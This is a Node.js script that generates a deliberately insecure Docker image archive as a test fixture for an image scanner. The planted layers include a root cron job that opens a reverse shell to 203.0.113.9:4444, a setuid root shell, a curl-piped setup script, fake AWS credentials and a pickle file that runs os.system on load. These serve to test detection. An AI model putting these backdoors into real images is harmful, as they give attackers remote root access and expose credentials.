#!/usr/bin/env node
// Writes insecure-image.tar next to this script: a small `docker save` archive of a deliberately
// insecure AI serving image, for `sanctum image examples/insecure-image/insecure-image.tar`.
// Generated, never committed (the archive is in .gitignore). Needs only the package's own dependencies.
import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import tar from 'tar-stream';

const here = dirname(fileURLToPath(import.meta.url));
const out = process.argv[2] ?? join(here, 'insecure-image.tar');

async function pack(entries) {
  const p = tar.pack();
  const chunks = [];
  p.on('data', (c) => chunks.push(c));
  const ended = new Promise((resolve) => p.on('end', resolve));
  for (const { name, content = '', mode = 0o644, type = 'file' } of entries) {
    const body = Buffer.from(content, 'latin1');
    await new Promise((resolve, reject) => p.entry({ name, mode, type, size: type === 'file' ? body.length : 0 }, type === 'file' ? body : Buffer.alloc(0), (e) => (e ? reject(e) : resolve())));
  }
  p.finalize();
  await ended;
  return Buffer.concat(chunks);
}

const sha = (b) => 'sha256:' + createHash('sha256').update(b).digest('hex');
// Not a real key: the shape of an AWS key pair, built here so that no credential is committed.
const awsId = 'AKIA' + 'Q7T3XK2M9WPLZC4R';
const awsSecret = Buffer.from('insecure-image-example-secret-key-0001').toString('base64').slice(0, 40);

const layers = [
  {
    createdBy: '/bin/sh -c #(nop) ADD file:5b1e4d0c2a in / ',
    entries: [
      { name: 'etc/os-release', content: 'NAME="Alpine Linux"\nID=alpine\nVERSION_ID=3.14.2\nPRETTY_NAME="Alpine Linux v3.14"\n' },
      { name: 'lib/apk/db/installed', content: 'P:apk-tools\nV:2.12.5-r0\nA:x86_64\no:apk-tools\n\nP:musl\nV:1.2.2-r3\nA:x86_64\no:musl\n\n' },
      { name: 'usr/local/bin/', type: 'directory', mode: 0o777 },
      { name: 'usr/local/bin/sh-root', content: '#!/bin/sh\nexec /bin/sh "$@"\n', mode: 0o4755 },
    ],
  },
  {
    createdBy: '/bin/sh -c curl -fsSL https://get.example.com/setup.sh | sh',
    entries: [
      { name: 'root/.aws/credentials', content: `[default]\naws_access_key_id = ${awsId}\naws_secret_access_key = ${awsSecret}\n` },
      { name: 'etc/crontabs/root', content: '*/10 * * * * /bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"\n' },
      // A pickle that calls os.system when loaded: the model scanner reports it, nothing runs it.
      { name: 'models/classifier.pkl', content: '\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.' },
    ],
  },
  {
    createdBy: '/bin/sh -c rm -rf /root/.aws',
    entries: [
      { name: 'root/.wh..aws', content: '' },
      { name: 'app/serve.py', content: 'import pickle\nfrom flask import request\nmodel = pickle.load(open("/models/classifier.pkl", "rb"))\n' },
    ],
  },
];

const built = [];
for (const l of layers) {
  const tarball = await pack(l.entries);
  const blob = gzipSync(tarball);
  built.push({ blob, digest: sha(blob), diffId: sha(tarball), createdBy: l.createdBy });
}
const config = Buffer.from(
  JSON.stringify({
    architecture: 'amd64',
    os: 'linux',
    config: { Env: ['PATH=/usr/local/bin:/usr/bin:/bin'], ExposedPorts: { '22/tcp': {}, '8000/tcp': {} }, Cmd: ['python', '/app/serve.py'] },
    rootfs: { type: 'layers', diff_ids: built.map((l) => l.diffId) },
    history: built.map((l) => ({ created_by: l.createdBy })),
  }),
);
const configPath = `blobs/sha256/${sha(config).slice(7)}`;
const files = [{ name: configPath, content: config }];
for (const l of built) files.push({ name: `blobs/sha256/${l.digest.slice(7)}`, content: l.blob });
files.push({
  name: 'manifest.json',
  content: Buffer.from(JSON.stringify([{ Config: configPath, RepoTags: ['sanctum-examples/insecure-image:1'], Layers: built.map((l) => `blobs/sha256/${l.digest.slice(7)}`) }])),
});
writeFileSync(out, await pack(files.map((f) => ({ name: f.name, content: f.content.toString('latin1') }))));
console.log(`wrote ${out}`);
